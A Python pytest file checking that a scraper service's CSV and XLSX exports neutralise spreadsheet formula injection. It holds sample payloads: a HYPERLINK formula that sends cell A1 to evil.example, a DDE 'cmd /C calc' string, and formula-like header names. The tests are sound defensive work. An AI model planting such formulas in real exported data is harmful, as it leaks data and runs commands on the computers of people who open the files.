"""CSV export cannot carry a formula into a spreadsheet (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import httpx
import pytest
from openpyxl import load_workbook
from scraper_manager.runs.export import csv_cell
from scraper_manager.runs.service import XLSX_MEDIA_TYPE
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.factories import make_client, make_run, make_scraper, scraper_body

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [("plain", "plain"), ("a=b", "a=b"), (None, ""), (-5, "-5"), (["=x"], '["=x"]'), ("", "")],
)
def test_other_cells_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


async def test_the_csv_export_neutralises_crawled_formulas(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    writer = await make_client(db_engine, "write", owner=who.owner)
    scraper = (
        await client.post(
            "/api/v1/scrapers",
            json=scraper_body(selectors={"title": "title::text"}),
            headers=writer.headers,
        )
    ).json()
    async with db_engine.begin() as conn:
        run_id = await conn.scalar(
            text(
                "INSERT INTO runs (scraper_id, owner, status, trigger, created_at, items_collected,"
                " pages_fetched, requests_failed, retries, bytes_received, status_counts,"
                " stop_requested) VALUES (:s, :o, 'completed', 'manual', now(), :n, 1, 0, 0, 0,"
                " '{}', false) RETURNING id"
            ),
            {"s": scraper["id"], "o": who.owner, "n": len(FORMULAS)},
        )
        for value in FORMULAS:
            await conn.execute(
                text(
                    "INSERT INTO items (run_id, scraper_id, url, data, created_at)"
                    " VALUES (:r, :s, :u, CAST(:d AS jsonb), now())"
                ),
                {
                    "r": run_id,
                    "s": scraper["id"],
                    "u": "=1+1",
                    "d": json.dumps({"title": value}),
                },
            )
    exported = await client.get(
        f"/api/v1/scrapers/{scraper['id']}/results?format=csv", headers=who.headers
    )
    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    assert rows[0] == ["url", "title"]
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + v for v in FORMULAS)
    assert all(row[0] == "'=1+1" for row in rows[1:])


XLSX_ITEMS: list[dict[str, object]] = [
    {"name": "Mug", "price": 12},
    {"price": 3.5, "name": '=HYPERLINK("http://evil.example")', "stock": True},
    {"tags": ["a", "b"], "meta": {"colour": "blue"}, "name": "Bell\x07"},
]


async def _run_with(
    engine: AsyncEngine, owner: str, items: list[dict[str, object]]
) -> tuple[int, int]:
    scraper = await make_scraper(engine, owner)
    run = await make_run(engine, scraper)
    async with engine.begin() as conn:
        for n, data in enumerate(items):
            await conn.execute(
                text(
                    "INSERT INTO items (run_id, scraper_id, url, data, created_at)"
                    " VALUES (:r, :s, :u, CAST(:d AS jsonb), now())"
                ),
                {
                    "r": run.id,
                    "s": scraper.id,
                    "u": f"http://shop.example/{n}",
                    "d": json.dumps(data),
                },
            )
    return scraper.id, run.id


async def test_the_xlsx_export_holds_what_the_json_export_holds(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    scraper_id, run_id = await _run_with(db_engine, who.owner, XLSX_ITEMS)
    base = f"/api/v1/scrapers/{scraper_id}/results"
    exported = await client.get(f"{base}?format=xlsx&run_id={run_id}", headers=who.headers)
    assert exported.status_code == 200
    assert exported.headers["content-type"] == XLSX_MEDIA_TYPE
    assert f"run-{run_id}.xlsx" in exported.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(exported.content), read_only=True)["results"]
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    # url, then every item key in the order it first appears.
    assert header == ["url", "name", "price", "stock", "meta", "tags"]
    listed = (await client.get(f"{base}?run_id={run_id}", headers=who.headers)).json()["data"]
    expected = [
        [
            item["url"],
            *[
                json.dumps(v) if isinstance(v := item["data"].get(k), dict | list) else v
                for k in header[1:]
            ],
        ]
        for item in listed
    ]
    expected[2][1] = "Bell"  # the control character XML cannot carry is dropped
    # Trailing empty cells are not stored: a short row is padded with None.
    assert [row + [None] * (len(header) - len(row)) for row in rows] == expected


async def test_a_crawled_formula_is_text_in_the_xlsx_export(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    scraper_id, run_id = await _run_with(db_engine, who.owner, [{"name": "=1+1"}])
    exported = await client.get(
        f"/api/v1/scrapers/{scraper_id}/results?format=xlsx&run_id={run_id}", headers=who.headers
    )
    sheet = load_workbook(io.BytesIO(exported.content))["results"]
    assert sheet["B2"].value == "=1+1"
    assert sheet["B2"].data_type == "s"


async def test_a_run_without_items_exports_a_header_only_xlsx(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    scraper_id, run_id = await _run_with(db_engine, who.owner, [])
    exported = await client.get(
        f"/api/v1/scrapers/{scraper_id}/results?format=xlsx&run_id={run_id}", headers=who.headers
    )
    sheet = load_workbook(io.BytesIO(exported.content), read_only=True)["results"]
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [["url"]]


async def test_another_owners_xlsx_export_is_404(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    owner = await make_client(db_engine, "read")
    stranger = await make_client(db_engine, "read")
    scraper_id, run_id = await _run_with(db_engine, owner.owner, XLSX_ITEMS)
    exported = await client.get(
        f"/api/v1/scrapers/{scraper_id}/results?format=xlsx&run_id={run_id}",
        headers=stranger.headers,
    )
    assert exported.status_code == 404


HOSTILE_NAME = '=HYPERLINK("http://127.0.0.1:9/h","hdr")'


async def test_a_selector_name_like_a_formula_is_quoted_in_the_csv_header(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "write")
    scraper = await make_scraper(db_engine, who.owner, selectors={HOSTILE_NAME: "title::text"})
    await make_run(db_engine, scraper)
    exported = await client.get(
        f"/api/v1/scrapers/{scraper.id}/results?format=csv", headers=who.headers
    )
    assert exported.status_code == 200, exported.text
    header = next(csv.reader(io.StringIO(exported.text, newline="")))
    assert header == ["url", "'" + HOSTILE_NAME]


async def test_an_item_key_like_a_formula_is_text_in_the_xlsx_header(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    scraper_id, run_id = await _run_with(db_engine, who.owner, [{HOSTILE_NAME: "x"}])
    exported = await client.get(
        f"/api/v1/scrapers/{scraper_id}/results?format=xlsx&run_id={run_id}", headers=who.headers
    )
    with zipfile.ZipFile(io.BytesIO(exported.content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(exported.content))["results"]
    assert sheet["B1"].value == HOSTILE_NAME
    assert sheet["B1"].data_type == "s"
